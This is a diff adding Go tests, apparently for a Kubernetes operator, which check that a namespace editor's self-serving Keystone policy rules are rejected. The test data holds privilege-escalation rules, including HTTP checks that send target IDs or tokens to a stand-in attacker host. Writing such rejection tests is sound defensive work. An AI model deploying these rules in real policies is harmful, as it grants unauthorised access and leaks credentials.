@@ -33,6 +33,31 @@ var _ = DescribeTable("the editor of a namespace who writes a policy that oslo.p
 	Entry("a rule that allows all users, after more unused rules than are reported", SpecTimeout(startTimeout), unusedRules(500)+"\"identity:create_grant\": \"\"\n"),
 )
 
+// The rules are read as they are written. They let the author do what only administrators of the cloud may, by a check that matches nobody else,
+// or that cannot be evaluated before Keystone asks another host or knows the target.
+var _ = DescribeTable("the editor of a namespace who writes a rule for itself",
+	func(ctx SpecContext, rule string) {
+		w := kube(ctx)
+		attacker := w.editor(ctx, w.namespace(ctx))
+		policy := "\"identity:create_user\": \"rule:admin_required\"\n" + rule + "\n"
+		for _, kind := range []string{"ConfigMap", "Secret"} {
+			expectPolicyDenied(attacker.client.Create(ctx, newPolicyObject(kind, attacker.namespace, "policy", policyLabels, policy)), "KeystonePolicyBroken")
+			Expect(attacker.client.Create(ctx, newPolicyObject(kind, attacker.namespace, "policy", policyLabels, soundPolicy))).To(Succeed())
+			expectPolicyDenied(attacker.client.Update(ctx, newPolicyObject(kind, attacker.namespace, "policy", policyLabels, policy)), "KeystonePolicyBroken")
+		}
+	},
+	Entry("for its user ID", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or user_id:mallory"`),
+	Entry("for its name", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or token.user.name:mallory"`),
+	Entry("for a role that the target names", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or role:%(target.user.name)s"`),
+	Entry("for what its own host says", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or https://mallory.example.com/%(target.user.id)s"`),
+	Entry("for tokens that its own host learns", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required and http://mallory.example.com/"`),
+	Entry("for text around an attribute", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or user_id:%(target.user.name)s%(target.user.description)s"`),
+	Entry("for every token with a catalog", SpecTimeout(startTimeout), `"identity:delete_user": "rule:admin_required or token.catalog.type:identity"`),
+	Entry("for a grant in its own domain", SpecTimeout(startTimeout), `"identity:create_grant": "rule:admin_required or (role:manager and user_id:mallory `+
+		`and domain_id:%(target.user.domain_id)s and domain_id:%(target.project.domain_id)s)"`),
+	Entry("after more alternatives than are compared", SpecTimeout(startTimeout), `"identity:delete_user": "`+strings.Repeat("! or ", 2000)+`user_id:mallory"`),
+)
+
 // unusedRules returns rules that each cause a note.
 func unusedRules(count int) string {
 	var rules strings.Builder
